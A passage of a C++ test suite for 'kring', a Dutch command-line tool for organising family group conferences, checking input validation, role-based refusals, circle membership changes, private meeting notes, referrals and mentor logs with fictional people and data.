  // (and Sanne herself) need a reason.
  k.Ok("fatima", "pretalk log Sanne --how home");
  k.Ok("fatima", "pretalk log Kees --how home");
  k.Ok("sanne", "sync");
  Run none = k.As("sanne", "pretalk list");
  CHECK(none.out.find("Nog geen voorgesprek") == std::string::npos);
  // The coordinator reads them all.
  CHECK(At(k.Json("fatima", "pretalk list"), "pretalks").list_value().values_size() == 3);
}

TEST_CASE(
    "choices in Dutch words and numbers in plain figures, or a clear refusal that changes "
    "nothing",
    "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator"}, false);
  const std::string fatima = k.Account("fatima");
  k.Ok("fatima", "sync");

  // The words the domain's messages offer are the words the command takes, and shows.
  k.Ok("fatima", "circle propose --name 'Kees' --kind vriend --relation buurman");
  k.Ok("fatima", "circle propose --name 'Ria' --kind Familie --relation tante");
  k.Ok("fatima", "circle propose --name 'Jan' --kind neighbour --relation 'van hiernaast'");
  Run refused = k.As("fatima", "circle propose --name 'Piet' --kind alien --relation oom");
  CHECK(refused.exit_code == 1);
  CHECK(refused.all.find("Kies wie deze persoon is: familie, vriend, buur") != std::string::npos);
  const Value circle = k.Json("fatima", "circle list");
  REQUIRE(circle.list_value().values_size() == 3);
  for (const Value& p : circle.list_value().values()) {
    const std::string& name = At(p, "name").string_value();
    const std::string& kind = At(p, "kind").string_value();  // scripts get the identifiers
    CHECK(kind == (name == "Kees" ? "friend" : name == "Ria" ? "family" : "neighbour"));
  }
  Run listed = k.As("fatima", "circle list");
  CHECK(listed.out.find("(buurman)  vriend,") != std::string::npos);
  CHECK(k.As("fatima", "--lang en circle list").out.find("(tante)  family,") != std::string::npos);
  k.Ok("fatima", "pretalk log Kees --how telefoon");
  CHECK(k.As("fatima", "pretalk list").out.find("Kees (telefoon)") != std::string::npos);
  CHECK(k.As("fatima", "--lang en pretalk list").out.find("Kees (phone)") != std::string::npos);
  k.Ok("fatima", "participation set Kees deels --reason 'Hij komt na het eten.'");
  Run unknown_way = k.As("fatima", "participation set Ria misschien --reason 'Weet het niet.'");
  CHECK(unknown_way.exit_code == 2);
  CHECK(unknown_way.all.find("Kies: komt, deels, schriftelijk of niet-uitgenodigd.") !=
        std::string::npos);
  Run unknown_domain = k.As(
      "fatima", "agreement add --owner Kees --action 'Post openen' --due now+7d --domain hobby");
  INFO(unknown_domain.all);
  CHECK(unknown_domain.exit_code == 1);
  CHECK(unknown_domain.all.find("Kies: wonen, geld, relaties") != std::string::npos);
  CHECK(k.Json("fatima", "agreement list").list_value().values_size() == 0);

  // Amounts: a Dutch or English decimal mark; anything else is refused and nothing is saved.
  k.Ok("fatima", "micro cost intake --service 'Schuldhulp' --euros 1250,5");
  for (const char* bad : {"abc", "5abc", "1e9", "-3", "' 12'", "12,505", "1.000,00"}) {
    Run r = k.As("fatima", std::string("micro cost intake --service 'Schuldhulp' --euros ") + bad);
    INFO(bad << ": " << r.all);
    CHECK(r.exit_code == 2);
    CHECK(r.all.find("schrijf het bedrag per maand in cijfers") != std::string::npos);
  }
  CHECK(At(k.Json("fatima", "micro show"), "cost_before_cents").number_value() == 125050);
  CHECK(k.As("fatima", "micro show").out.find("voor € 1.250,50") != std::string::npos);
  CHECK(k.As("fatima", "--lang en micro show").out.find("before €1,250.50") != std::string::npos);
  Run huge = k.As("fatima", "micro cost intake --service 'Zorg' --euros 2000000");
  CHECK(huge.exit_code == 1);
  CHECK(huge.all.find("niet meer dan 1 miljoen") != std::string::npos);
  // A score that is not a figure is not a 0.
  Run score = k.As("fatima", "micro wellbeing intake zeven");
  CHECK(score.exit_code == 2);
  CHECK(score.all.find("Kies een cijfer van 0 tot en met 10.") != std::string::npos);
  CHECK(At(k.Json("fatima", "micro show"), "wellbeing_before").null_value() ==
        google::protobuf::NULL_VALUE);

  // A word missing: the command's own usage, not the whole program's.
  Run missing = k.As("fatima", "micro wellbeing intake");
  CHECK(missing.exit_code == 2);
  CHECK(missing.all.find("deze opdracht mist iets") != std::string::npos);
  // The usage goes to stderr: stdout holds results only.
  CHECK(missing.all.find("Gebruik: kring [--profile NAAM] [--json] micro wellbeing") !=
        std::string::npos);
  CHECK(missing.out.find("Gebruik:") == std::string::npos);

  // --case may stand before the command, as the global options do; --db and --profile together
  // are a question, not a choice to make silently.
  Run before = k.As("fatima", "--case " + cid + " circle list");
  INFO(before.all);
  CHECK(before.exit_code == 0);
  CHECK(before.out.find("Kees") != std::string::npos);
  CHECK(k.As("fatima", "--case " + cid + " case list").exit_code == 2);
  Run both = k.As("fatima", "--db " + dir.path() + "/other.db circle list");
  CHECK(both.exit_code == 2);
  CHECK(both.all.find("Kies --db of --profile, niet allebei.") != std::string::npos);

  // A refusal by role says who may, and points to a sync: this device's view may be behind a
  // role change someone else made.
  const std::string kees = k.Id("kees", "account create", "account");
  k.Ok("sanne", "member add " + cid + " " + kees + ":member");
  k.Ok("kees", "sync");
  Run denied = k.As("kees", "micro wellbeing intake 5");
  CHECK(denied.exit_code == 1);
  CHECK(denied.all.find("Dit mag alleen de hoofdpersoon of de gespreksleider. Is dat net "
                        "veranderd? Haal het eerst op: kring sync") != std::string::npos);

  // No mentor yet: said in words, not as a message key.
  Run mentor = k.As("fatima", "mentor checkin --note 'Goed gesprek'");
  CHECK(mentor.exit_code == 1);
  CHECK(mentor.all.find("Er is nog geen mentor.") != std::string::npos);
  CHECK(mentor.all.find("mentor.none") == std::string::npos);

  // A mistyped retention ("3O") would have read as 3, and letters as 0: an erasure at once.
  for (const char* bad : {"3O", "abc", "' 30'", "+30"}) {
    Run r = k.As("sanne", std::string("case close --retention-days ") + bad);
    INFO(bad << ": " << r.all);
    CHECK(r.exit_code == 2);
  }
  Run show = k.As("sanne", "case show " + cid);
  REQUIRE(show.exit_code == 0);
  CHECK(show.out.find("\"closed\"") == std::string::npos);
}

TEST_CASE("kring circle remove: gone from both lists, kept in the history, open agreements named",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  const std::string ria = At(k.Json("ria", "account show"), "account").string_value();
  k.Ok("ria", "agreement status " + shop + " done");
  k.Ok("fatima", "sync");

  // Only the resident and the coordinator take someone out, and never the resident herself.
  Run help = k.As("ria", "circle remove --help");
  CHECK(help.all.find("Alleen de hoofdpersoon of gespreksleider mag dit. De hoofdpersoon zelf "
                      "blijft altijd in de kring.") != std::string::npos);
  Run by_ria = k.As("ria", "circle remove 'Tante Ria'");
  CHECK(by_ria.exit_code == 1);
  CHECK(by_ria.all.find("Dit mag alleen de hoofdpersoon of de gespreksleider.") !=
        std::string::npos);
  Run resident = k.As("fatima", "circle remove Sanne");
  CHECK(resident.exit_code == 1);
  CHECK(resident.all.find("De hoofdpersoon kan niet uit de eigen kring") != std::string::npos);
  CHECK(k.Json("sanne", "circle list").list_value().values_size() == 2);

  // The coordinator takes Ria out: her open agreement is named (not the one she did), and that
  // her app can still read the case.
  Run out = k.As("fatima", "circle remove 'Tante Ria'");
  INFO(out.all);
  REQUIRE(out.exit_code == 0);
  CHECK(out.out.find("Uit de kring gehaald.") != std::string::npos);
  CHECK(out.out.find("nieuwe eigenaar nodig") != std::string::npos);
  CHECK(out.out.find(post + "  Post openen") != std::string::npos);
  CHECK(out.out.find(shop) == std::string::npos);
  // The hint is a command that works as printed: `member remove` takes the case and the account.
  CHECK(out.out.find("kring member remove " + cid + " " + ria) != std::string::npos);
  CHECK(out.out.find("Uit de kring halen neemt die toegang niet weg.") != std::string::npos);
  CHECK(out.out.find("Wat hij of zij al gezien heeft, kun je niet terugnemen.") !=
        std::string::npos);
  CHECK(k.As("fatima", "circle remove 'Tante Ria'").all.find("zit niet meer in de kring") !=
        std::string::npos);

  // The resident's device: the circle without her, unless --all; her agreements keep her name.
  k.Ok("sanne", "sync");
  for (const char* who : {"sanne", "fatima"}) {
    Run list = k.As(who, "circle list");
    INFO(list.all);
    CHECK(list.out.find("Tante Ria") == std::string::npos);
    CHECK(list.out.find("Niet getoond: 1 niet meer in de kring") != std::string::npos);
    CHECK(k.Json(who, "circle list").list_value().values_size() == 1);
    Run all = k.As(who, "circle list --all");
    CHECK(all.out.find("Tante Ria (tante)  familie, niet meer in de kring (sinds ") !=
          std::string::npos);
    const Value everyone = k.Json(who, "circle list --all");
    REQUIRE(everyone.list_value().values_size() == 2);
    for (const Value& p : everyone.list_value().values()) {
      CHECK(At(p, "left").bool_value() == (At(p, "name").string_value() == "Tante Ria"));
    }
  }
  // A declined proposal is not in the circle now either: shown only with --all.
  k.Ok("fatima", "circle propose --name 'Oom Kees' --kind family --relation oom");
  k.Ok("fatima", "circle decline 'Oom Kees'");
  Run without_declined = k.As("fatima", "circle list");
  INFO(without_declined.all);
  CHECK(without_declined.out.find("Oom Kees") == std::string::npos);
  CHECK(without_declined.out.find("Niet getoond: 1 niet meer in de kring, 1 afgewezen. Toon ook "
                                  "hen met: kring circle list --all\n") != std::string::npos);
  CHECK(k.Json("fatima", "circle list").list_value().values_size() == 1);
  CHECK(k.As("fatima", "circle list --all").out.find("Oom Kees (oom)  familie, afgewezen") !=
        std::string::npos);
  Run agreements = k.As("sanne", "agreement list");
  CHECK(agreements.out.find("Tante Ria (niet meer in de kring): Post openen") != std::string::npos);
  CHECK(agreements.out.find("Heeft een nieuwe eigenaar nodig: kring agreement owner " + post) !=
        std::string::npos);
  const Value listed = k.Json("sanne", "agreement list");
  for (const Value& a : listed.list_value().values()) {
    CHECK(At(a, "owner_left").bool_value());
    CHECK(At(a, "needs_new_owner").bool_value() == (At(a, "id").string_value() == post));
  }

  // On paper too.
  Run paper = k.As("sanne", "export printout --person Sanne --text");
  INFO(paper.all);
  CHECK(paper.out.find("Tante Ria (niet meer in de kring)") != std::string::npos);

  // Nothing new for her; the open agreement gets a new owner.
  Run new_one = k.As("sanne", "agreement add --owner 'Tante Ria' --action 'Koken' --due now+5d");
  CHECK(new_one.exit_code == 1);
  CHECK(new_one.all.find("zit niet meer in de kring. Kies iemand anders") != std::string::npos);
  k.Ok("fatima", "agreement owner " + post + " Sanne");
  k.Ok("sanne", "sync");
  const Value moved = k.Json("sanne", "agreement list");
  bool post_found = false;
  for (const Value& a : moved.list_value().values()) {
    if (At(a, "id").string_value() != post) continue;
    post_found = true;
    CHECK_FALSE(At(a, "needs_new_owner").bool_value());
  }
  CHECK(post_found);

  // Back in the circle, then her account is taken out of the case: she is listed as no longer
  // taking part with the app, and the command says how to take her out of the circle too.
  k.Ok("fatima", "circle approve 'Tante Ria'");
  Run member = k.As("sanne", "member remove " + cid + " " + ria);
  INFO(member.all);
  REQUIRE(member.exit_code == 0);
  CHECK(member.out.find("Deze persoon staat nog in de kring, nu zonder app.") != std::string::npos);
  k.Ok("fatima", "sync");
  Run after = k.As("fatima", "circle list");
  const size_t at = after.out.find("Tante Ria");
  REQUIRE(at != std::string::npos);
  const std::string line = after.out.substr(at, after.out.find('\n', at) - at);
  CHECK(line.find("familie, in de kring, doet niet meer mee met de app") != std::string::npos);
  CHECK(line.find(", met app") == std::string::npos);
}

TEST_CASE("the meeting's record on the command line: attendance and notes then finishing",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  k.NewCase("sanne", {"fatima:coordinator", "ria"});
  const std::string sanne = k.Account("sanne"), fatima = k.Account("fatima"),
                    ria = k.Account("ria");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name Sanne --kind resident --account " + sanne);
  k.Ok("fatima",
       "circle propose --name 'Tante Ria' --kind family --relation tante --account " + ria);
  k.Ok("fatima",
       "circle propose --name Fatima --kind coordinator --relation gespreksleider --account " +
           fatima);
  for (const char* p : {"Sanne", "'Tante Ria'", "Fatima"}) {
    k.Ok("fatima", std::string("circle approve ") + p);
  }
  k.Ok("fatima", "poll create --slot now+7d@19:30");
  k.Ok("fatima",
       "poll fix 1 --coarse 'Bij Sanne thuis' --exact 'Kerkstraat 12' "
       "--no-pretalk-reason 'Spoed.'");
  // Nothing to record before the meeting has begun.
  Run early = k.As("fatima", "meeting attend Sanne aanwezig");
  CHECK(early.exit_code == 1);
  CHECK(early.all.find("nog niet begonnen") != std::string::npos);
  k.Ok("fatima", "meeting phase information");
  k.Ok("fatima", "meeting attend Sanne aanwezig");
  k.Ok("fatima", "meeting attend 'Tante Ria' schriftelijk");
  CHECK(k.As("fatima", "meeting attend Sanne misschien").exit_code == 2);
  k.Ok("fatima", "meeting note 'Iedereen kreeg dezelfde informatie.'");
  // A note of only spaces is no note.
  Run blank = k.As("fatima", "meeting note '   '");
  CHECK(blank.exit_code == 1);
  CHECK(blank.all.find("Schrijf eerst iets op.") != std::string::npos);
  Run help = k.As("fatima", "meeting note --help");
  CHECK(help.all.find("tot het netwerk het plan vrijgeeft. Daarna leest iedereen het.") !=
        std::string::npos);
  k.Ok("ria", "sync");
  // Ria is in the network, not an organiser: refused, and nothing changes.
  Run refused = k.As("ria", "meeting attend Sanne afwezig");
  CHECK(refused.exit_code == 1);
  CHECK(refused.all.find("Fout: ") != std::string::npos);
  k.Ok("ria", "sync");
  k.Ok("sanne", "sync");
  for (const char* who : {"sanne", "ria"}) {
    const Value attendance = k.Json(who, "meeting attendance");
    REQUIRE(attendance.list_value().values_size() == 2);
    std::multiset<std::string> seen;
    for (const Value& a : attendance.list_value().values()) {
      seen.insert(At(a, "attendance").string_value());
    }
    CHECK(seen == std::multiset<std::string>{"present", "written_view"});
  }
  CHECK(k.As("sanne", "meeting show").out.find("gaf een mening op papier") != std::string::npos);

  // Private time: Ria's note stays with the network until the network releases its draft.
  k.Ok("sanne", "meeting private-time");
  k.Ok("ria", "sync");
  Run sealed = k.As("ria", "meeting note 'Oom Henk doet de post.'");
  CHECK(sealed.exit_code == 0);
  CHECK(sealed.out.find("Alleen het netwerk leest dit, tot het netwerk het plan vrijgeeft.") !=
        std::string::npos);
  k.Ok("fatima", "sync");
  CHECK(k.Json("fatima", "meeting notes").list_value().values_size() == 1);
  CHECK(k.As("fatima", "meeting notes").out.find("Oom Henk") == std::string::npos);
  k.Ok("sanne", "sync");
  CHECK(k.As("sanne", "meeting notes").out.find("Oom Henk doet de post.") != std::string::npos);
  // An agreement the network makes in private time stays with the network too, and says so.
  Run agreed = k.As("ria", "agreement add --action 'Oom Henk belt de woningbouw' --due now+7d");
  CHECK(agreed.exit_code == 0);
  CHECK(agreed.out.find("alleen het netwerk leest deze afspraak") != std::string::npos);
  k.Ok("fatima", "sync");
  CHECK(k.As("fatima", "agreement list").out.find("woningbouw") == std::string::npos);
  // Without --yes the release only tells what everyone will read, and changes nothing.
  Run asked = k.As("ria", "meeting release");
  CHECK(asked.exit_code == 2);
  CHECK(asked.out.find("aantekeningen: 1") != std::string::npos);
  CHECK(asked.out.find("afspraken: 1") != std::string::npos);
  CHECK(asked.out.find("gespreksleider en de professionals") != std::string::npos);
  CHECK(asked.out.find("meeting release --yes") != std::string::npos);
  k.Ok("fatima", "sync");
  CHECK(k.Json("fatima", "meeting notes").list_value().values_size() == 1);
  CHECK(k.As("fatima", "meeting phase plan-presentation").exit_code == 1);
  Run released = k.As("ria", "meeting release --yes");
  CHECK(released.exit_code == 0);
  CHECK(released.out.find("aantekeningen uit de eigen tijd lezen (1)") != std::string::npos);
  k.Ok("fatima", "sync");
  const Value notes = k.Json("fatima", "meeting notes");
  REQUIRE(notes.list_value().values_size() == 2);
  CHECK(At(notes.list_value().values(1), "text").string_value() == "Oom Henk doet de post.");
  CHECK(At(notes.list_value().values(1), "private_time").bool_value());
  CHECK(At(notes.list_value().values(1), "author").string_value() == ria);
  CHECK(k.As("fatima", "agreement list").out.find("woningbouw") != std::string::npos);

  // Finishing closes the meeting: no phase or attendance changes after it.
  k.Ok("fatima", "meeting phase plan-voorstellen");
  CHECK(k.As("fatima", "meeting finish").exit_code == 1);
  k.Ok("fatima", "meeting phase plan-aannemen");
  k.Ok("fatima", "meeting finish");
  Run again = k.As("fatima", "meeting phase acceptance");
  CHECK(again.exit_code == 1);
  CHECK(again.all.find("afgerond") != std::string::npos);
  Run late = k.As("fatima", "--lang en meeting attend Sanne absent");
  CHECK(late.exit_code == 1);
  CHECK(late.all.find("finished") != std::string::npos);
  CHECK(late.all.find("You can still write a note.") != std::string::npos);
  k.Ok("sanne", "sync");
  CHECK(At(k.Json("sanne", "meeting show"), "finished_at_ms").number_value() > 0);
  CHECK(k.As("sanne", "meeting show").out.find("Afgerond: ") != std::string::npos);
}

TEST_CASE("what people entered is shown again: referral, invitations, groups, spoed, mentor log",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator"});
  const std::string sanne = k.Account("sanne"), fatima = k.Account("fatima"),
                    ria = k.Account("ria");
  // No group yet: said so, not an empty screen.
  CHECK(k.As("sanne", "scope list").out == "Geen afgeschermde groepen.\n");
  CHECK(k.As("sanne", "--lang en scope list").out == "No restricted groups.\n");
  k.Ok("fatima", "sync");
  k.Ok("fatima",
       "referral submit --resident 'Sanne de Vries' --resident-has-app --consent "
       "--reason 'Sanne wil grip op haar geld.' --invitee 'Tante Ria|family|tante|06-1234||app' "
       "--bottom-line 'De kinderen slapen thuis.' --bottom-line 'Geen alcohol in huis.' "
       "--bottom-line 'Zuster Ans komt elke week.' --bottom-line 'Schulden worden gemeld.' "
       "--question 'Wie brengt de kinderen naar school?' --question 'Wie kookt op vrijdag?'");
  k.Ok("fatima",
       "circle propose --name Fatima --kind coordinator --relation gespreksleider --account " +
           fatima);
  for (const char* p : {"'Sanne de Vries'", "'Tante Ria'", "Fatima"}) {
    k.Ok("fatima", std::string("circle approve ") + p);
  }
  k.Ok("fatima", "circle link 'Sanne de Vries' " + sanne);

  // 1. The referral's bottom lines and questions, each under its heading, and spoed.
  const Run shown = k.As("fatima", "referral show");
  INFO(shown.all);
  REQUIRE(shown.exit_code == 0);
  CHECK(shown.out.find("Voorwaarden (waar het plan aan moet voldoen):\n"
                       "  - De kinderen slapen thuis.\n"
                       "  - Geen alcohol in huis.\n"
                       "  - Zuster Ans komt elke week.\n"
                       "  - Schulden worden gemeld.\n") != std::string::npos);
  // In the order written (they were read back in a random order).
  CHECK(shown.out.find("Vragen die het plan moet beantwoorden:\n"
                       "  - Wie brengt de kinderen naar school?\n"
                       "  - Wie kookt op vrijdag?\n") != std::string::npos);
  CHECK(shown.out.find("Spoed: nee\n") != std::string::npos);
  CHECK(shown.out.find(" (Fatima)\nBewoner: Sanne de Vries\n") != std::string::npos);
  CHECK(shown.out.find("Voorgesteld voor de kring:\n  - Tante Ria\n") != std::string::npos);
  CHECK(k.As("fatima", "--lang en referral show")
            .out.find("Questions the plan must answer:\n"
                      "  - Wie brengt de kinderen naar "
                      "school?\n") != std::string::npos);
  const Value referral = k.Json("fatima", "referral show");
  REQUIRE(At(referral, "bottom_lines").list_value().values_size() == 4);
  CHECK(At(referral, "bottom_lines").list_value().values(1).string_value() ==
        "Geen alcohol in huis.");
  REQUIRE(At(referral, "questions").list_value().values_size() == 2);
  CHECK(At(referral, "questions").list_value().values(0).string_value() ==
        "Wie brengt de kinderen naar school?");

  // 2. Invitations by the name of whom they are for and who took them.
  // Sent twice: the first link is revoked and no person names it any more.
  k.Ok("fatima", "invitation app 'Tante Ria'");
  Run invited = k.As("fatima", "invitation app 'Tante Ria'");
  INFO(invited.all);
  REQUIRE(invited.exit_code == 0);
  std::smatch m;
  REQUIRE(std::regex_search(invited.out, m, std::regex("link (\\S+)")));
  const std::string link = m[1];
  const std::string plain = k.Id("sanne", "invite create " + cid, "uitnodiging");
  const Run open = k.As("sanne", "invite list " + cid);
  INFO(open.all);
  // Every invitation says the role it gives, also one for a person of the circle.
  CHECK(open.out.find(" open  voor Tante Ria, rol: deelnemer\n") != std::string::npos);
  CHECK(open.out.find(plain + " open  rol: deelnemer\n") != std::string::npos);
  // The replaced one was for Tante Ria, not for a new member; it says only its role.
  CHECK(open.out.find(" ingetrokken  rol: deelnemer\n") != std::string::npos);
  CHECK(open.out.find("nieuwe") == std::string::npos);
  k.Ok("ria", "invite accept " + link);
  k.Ok("sanne", "member approve " + cid + " " + ria);
  k.Ok("fatima", "sync");
  k.Ok("ria", "sync");
  const Run approved = k.As("fatima", "invite list " + cid);
  CHECK(approved.out.find("goedgekeurd " + ria +
                          " (Tante Ria)  voor Tante Ria, rol: deelnemer\n") != std::string::npos);
  bool named = false;
  const Value invites = k.Json("fatima", "invite list " + cid);
  for (const Value& inv : invites.list_value().values()) {
    if (At(inv, "accepted_by").string_value() != ria) continue;
    named = At(inv, "name").string_value() == "Tante Ria" &&
            At(inv, "accepted_by_name").string_value() == "Tante Ria";
  }
  CHECK(named);

  // 2b. Groups: what each is for and who is in it, by name.
  k.Ok("ria", "circle contact me --phone 0612345678");
  k.Ok("sanne", "sync");
  // A group that does not exist, or a name nobody has: said which.
  Run no_group = k.As("sanne", "scope set 77 'Tante Ria'");
  CHECK(no_group.exit_code == 1);
  CHECK(no_group.all.find("Groep 77 bestaat niet in deze casus.") != std::string::npos);
  Run nobody = k.As("sanne", "scope create 'Tante Ria' 'Oom Piet'");
  CHECK(nobody.exit_code == 1);
  CHECK(nobody.all.find("\"Oom Piet\": Niemand in de kring heeft deze naam") != std::string::npos);
  k.Ok("sanne", "scope create 'Tante Ria'");
  // A group Tante Ria is kept out of: she is not shown who is in it.
  k.Ok("sanne", "scope create Fatima");
  k.Ok("fatima", "sync");
  k.Ok("ria", "sync");
  const Run groups = k.As("ria", "scope list");
  INFO(groups.all);
  REQUIRE(groups.exit_code == 0);
  CHECK(groups.out.find(": jij zit er niet in\n") != std::string::npos);
  CHECK(groups.out.find("Sanne de Vries, Fatima") == std::string::npos);
  CHECK(groups.out.find("Fatima, Sanne de Vries") == std::string::npos);
  CHECK(k.As("ria", "--lang en scope list").out.find(": you are not in it\n") != std::string::npos);
  // Sanne, who is in it, sees its members.
  const Run own_groups = k.As("sanne", "scope list");
  const bool sanne_sees =
      own_groups.out.find("Wie erin zit: Sanne de Vries, Fatima\n") != std::string::npos ||
      own_groups.out.find("Wie erin zit: Fatima, Sanne de Vries\n") != std::string::npos;
  CHECK(sanne_sees);
  CHECK(groups.out.find(": contactgegevens\n  Wie erin zit: ") != std::string::npos);
  // Not "nog leeg" above its members: nothing is stored in it yet.
  CHECK(groups.out.find("nog leeg") == std::string::npos);
  const bool both =
      groups.out.find(": er staat nog niets in\n  Wie erin zit: Sanne de Vries, Tante Ria\n") !=
          std::string::npos ||
      groups.out.find(": er staat nog niets in\n  Wie erin zit: Tante Ria, Sanne de Vries\n") !=
          std::string::npos;
  CHECK(both);
  bool contact_group = false;
  const Value listed = k.Json("ria", "scope list");
  for (const Value& g : listed.list_value().values()) {
    const auto& holds = At(g, "holds").list_value().values();
    if (holds.size() != 1 || holds[0].string_value() != "contact") continue;
    std::set<std::string> names;
    for (const Value& p : At(g, "people").list_value().values()) {
      names.insert(At(p, "name").string_value());
    }
    contact_group = names == std::set<std::string>{"Fatima", "Tante Ria"};
  }
  CHECK(contact_group);
  // JSON hides no less than the text: no accounts of a group she is kept out of.
  bool kept_out = false;
  for (const Value& g : listed.list_value().values()) {
    if (At(g, "is_member").bool_value()) continue;
    kept_out = true;
    CHECK(At(g, "members").list_value().values_size() == 0);
    CHECK(At(g, "people").list_value().values_size() == 0);
  }
  CHECK(kept_out);

  // 3. Spoed later: the referrer, the chair, not another member.
  k.Ok("fatima", "referral spoed ja");
  k.Ok("sanne", "sync");
  CHECK(At(k.Json("sanne", "referral show"), "spoed").bool_value());
  CHECK(k.As("sanne", "referral show").out.find("Spoed: ja\n") != std::string::npos);
  k.Ok("sanne", "referral spoed nee");
  k.Ok("fatima", "sync");
  k.Ok("ria", "sync");
  CHECK_FALSE(At(k.Json("fatima", "referral show"), "spoed").bool_value());
  const Run refused = k.As("ria", "referral spoed ja");
  CHECK(refused.exit_code == 1);
  CHECK(refused.all.find("Fout: ") != std::string::npos);
  CHECK(refused.all.find("domain.") == std::string::npos);
  k.Ok("fatima", "sync");
  CHECK_FALSE(At(k.Json("fatima", "referral show"), "spoed").bool_value());
  CHECK(k.As("fatima", "referral spoed misschien").exit_code == 2);

  // 4. The mentor's log: every check-in and evaluation, with who recorded it.
  k.Ok("sanne", "mentor designate --young 'Sanne de Vries' --mentor 'Tante Ria' --consent");
  k.Ok("ria", "sync");
  k.Ok("ria", "mentor checkin --at now --note 'Samen boodschappen gedaan.'");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "mentor evaluate --at now --note 'Het gaat goed.'");
  // A second coordinator, joined later and not in the circle: named by role, not "?".
  const std::string karin = k.Id("karin", "account create", "account");
  const Run coord = k.As("sanne", "invite create " + cid + " coordinator");
  REQUIRE(std::regex_search(coord.out, m, std::regex("link (\\S+)")));
  k.Ok("karin", "invite accept " + std::string(m[1]));
  k.Ok("sanne", "member approve " + cid + " " + karin);
  k.Ok("karin", "sync");
  k.Ok("karin", "mentor evaluate --at now --note 'Karin keek mee.'");
  k.Ok("sanne", "sync");
  const Run log = k.As("sanne", "mentor list");
  INFO(log.all);
  REQUIRE(log.exit_code == 0);
  CHECK(log.out.find("Contactmomenten met de mentor:\n") != std::string::npos);
  CHECK(log.out.find(", door Tante Ria\n    Samen boodschappen gedaan.\n") != std::string::npos);
  CHECK(log.out.find("Evaluaties (elke 2 maanden):\n") != std::string::npos);
  CHECK(log.out.find(", door Fatima\n    Het gaat goed.\n") != std::string::npos);
  CHECK(log.out.find(", door gespreksleider\n    Karin keek mee.\n") != std::string::npos);
  CHECK(log.out.find("door ?") == std::string::npos);
  const Value entries = k.Json("sanne", "mentor list");
  REQUIRE(At(entries, "checkins").list_value().values_size() == 1);
  CHECK(At(At(entries, "checkins").list_value().values(0), "by").string_value() == ria);
  REQUIRE(At(entries, "evaluations").list_value().values_size() == 2);
  CHECK(At(At(entries, "evaluations").list_value().values(0), "note").string_value() ==
        "Het gaat goed.");
}

TEST_CASE("kring referral show names the first referral's resident and lists later ones apart",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator", "ria"});
  const std::string& ria = k.Account("ria");
  k.Ok("fatima", "sync");
  k.Ok("ria", "sync");
  k.Ok("fatima",
       "referral submit --resident 'Sanne de Vries' --consent --reason 'Sanne wil grip op haar "
       "geld.' --invitee 'Tante Ria|family|tante|06-1234||app'");
  k.Ok("fatima", "sync");
  k.Ok("ria", "sync");
  // Ria is not the resident: she cannot refer as the resident.
  Run as_resident = k.As("ria",
                         "referral submit --referrer resident --resident 'Sanne de Vries' "
                         "--consent --reason 'Zo.' --invitee 'Oom Kees|family|oom|06-5678||app'");
  CHECK(as_resident.exit_code != 0);
  CHECK(as_resident.all.find("Alleen de bewoner zelf kan aanmelden als bewoner.") !=
        std::string::npos);
  // Ria refers later, naming another resident and spoed: an addition, nothing more. It is about
  // the case's resident: no second resident person with the name she gave.
  k.Ok("ria",
       "referral submit --resident 'Ria de Vries' --consent --spoed --reason 'Ria wil het "
       "anders.' --bottom-line 'Ria blijft erbij.' --question 'Wie helpt Ria?' --invitee 'Oom "
       "Kees|family|oom|06-5678||app'");
  k.Ok("ria", "sync");
  k.Ok("fatima", "sync");
  for (const char* who : {"fatima", "ria"}) {
    Run r = k.As(who, "referral show");
    INFO(r.all);
    REQUIRE(r.exit_code == 0);
    CHECK(r.out.find("Bewoner: Sanne de Vries\n") != std::string::npos);
    // Fatima referred as a professional, but she is the coordinator: named as that, once (she
    // is no person in the circle, so her role is all there is to her name).
    CHECK(r.out.find("Aangemeld door: de gespreksleider\n") != std::string::npos);
    CHECK(r.out.find("(gespreksleider)") == std::string::npos);
    CHECK(r.out.find("Reden: Sanne wil grip op haar geld.\n") != std::string::npos);
    CHECK(r.out.find("Spoed: nee\n") != std::string::npos);
    CHECK(r.out.find("Latere aanmeldingen: 1\n") != std::string::npos);
    CHECK(r.out.find("    Reden: Ria wil het anders.\n    Voorwaarde: Ria blijft erbij.\n    "
                     "Vraag: Wie helpt Ria?\n") != std::string::npos);
    CHECK(k.As(who, "case list").out == cid + "  Sanne de Vries\n");
    Run circle = k.As(who, "circle list --all");
    CHECK(circle.out.find("Ria de Vries") == std::string::npos);
  }
  // Spoed on the case's referral is not Ria's to set: told who may, without a sync hint (no
  // role change explains it).
  Run spoed = k.As("ria", "referral spoed ja");
  CHECK(spoed.exit_code == 1);
  CHECK(spoed.all.find("Alleen wie de aanmelding deed, de hoofdpersoon of de gespreksleider mag "
                       "spoed aan- of uitzetten.") != std::string::npos);
  CHECK(spoed.all.find("kring sync") == std::string::npos);
  // The resident is one person: a name-based command finds her.
  Run approve = k.As("fatima", "circle approve 'Sanne de Vries'");
  INFO(approve.all);
  CHECK(approve.out.find("Meer mensen hebben deze naam") == std::string::npos);
  CHECK(approve.exit_code == 0);
  // Spoed set later goes on the case's referral, the first, not on Ria's later one.
  k.Ok("fatima", "referral spoed ja");
  k.Ok("fatima", "sync");
  k.Ok("ria", "sync");
  for (const char* who : {"fatima", "ria"}) {
    CHECK(k.As(who, "referral show").out.find("Spoed: ja\n") != std::string::npos);
    CHECK(At(k.Json(who, "referral show"), "spoed").bool_value());
  }
  const Value shown = k.Json("fatima", "referral show");
  CHECK(At(shown, "later").list_value().values_size() == 1);
  CHECK(At(At(shown, "later").list_value().values(0), "referrer_account").string_value() == ria);
  CHECK(At(At(shown, "later").list_value().values(0), "reason").string_value() ==
        "Ria wil het anders.");
  CHECK(At(At(shown, "later").list_value().values(0), "resident").string_value() ==
        At(shown, "resident").string_value());
}

TEST_CASE("a first referral after the resident was entered names that entry: one Sanne", "[cli]") {
  TestServer server;
  TempDir dir;
